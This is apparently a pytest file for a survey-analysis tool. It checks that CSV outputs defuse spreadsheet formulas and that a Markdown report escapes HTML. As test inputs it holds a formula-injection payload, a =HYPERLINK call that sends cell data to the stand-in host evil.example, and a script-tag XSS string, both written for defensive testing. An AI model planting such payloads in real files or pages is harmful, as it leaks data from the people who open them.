"""Issue #17 item 5: CSVs a person opens carry no live formulas (Parquet keeps the raw value); report.md no HTML."""
from __future__ import annotations

import pandas as pd

from qualmine.flows.settings import EXAMPLE_CODEBOOK
from qualmine.outputs.writers import read_table, write_table

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_agreement_style_tables_are_neutralised_in_csv_and_raw_in_parquet(tmp_path):
    frame = pd.DataFrame({"comparison": [f"{FORMULA} vs ana", "ana vs bo"], "coder": ["@SUM(1)", "-2+3"],
                          "kappa": [-0.5, 0.7]})
    write_table(frame, tmp_path, "agreement")
    csv = pd.read_csv(tmp_path / "agreement.csv", encoding="utf-8-sig", dtype=str)
    assert csv["comparison"].tolist() == [f"'{FORMULA} vs ana", "ana vs bo"]
    assert csv["coder"].tolist() == ["'@SUM(1)", "'-2+3"]
    assert csv["kappa"].tolist() == ["-0.5", "0.7"]               # numbers stay numbers
    pd.testing.assert_frame_equal(read_table(tmp_path, "agreement"), frame)
    (tmp_path / "agreement.parquet").unlink()                     # only the CSV: the apostrophes come off again
    assert read_table(tmp_path, "agreement")["coder"].tolist() == ["@SUM(1)", "-2+3"]


def test_run_tables_and_report_md_from_a_hostile_survey(tmp_path, prefect_harness):
    from qualmine.flows.pipeline import run_pipeline
    from qualmine.flows.settings import RunSettings

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    pd.DataFrame({"respondent_id": ["r1", "r2", "r3"],
                  "您对社区服务有什么意见？": [FORMULA, "排队时间太长<script>alert(1)</script>", "排队时间太长，人手紧张。"],
                  }).to_csv(corpus / "survey.csv", index=False, encoding="utf-8")
    out = tmp_path / "run"
    run_pipeline(RunSettings(corpus_dir=corpus, codebook_path=EXAMPLE_CODEBOOK, out_dir=out, topics=False, store=None))
    segments_csv = pd.read_csv(out / "segments.csv", encoding="utf-8-sig", dtype=str)
    assert not segments_csv["text"].str.startswith("=").any()
    assert f"'{FORMULA}" in set(segments_csv["text"])
    assert FORMULA in set(pd.read_parquet(out / "segments.parquet")["text"])
    for name in ("documents", "segments", "code_applications", "respondents"):
        cells = pd.read_csv(out / f"{name}.csv", encoding="utf-8-sig", dtype=str).fillna("").to_numpy().ravel()
        assert not [c for c in cells if c.startswith(("=", "+", "@"))], name
    report = (out / "report.md").read_text(encoding="utf-8")
    assert "<script>" not in report and "&lt;script&gt;alert(1)&lt;/script&gt;" in report
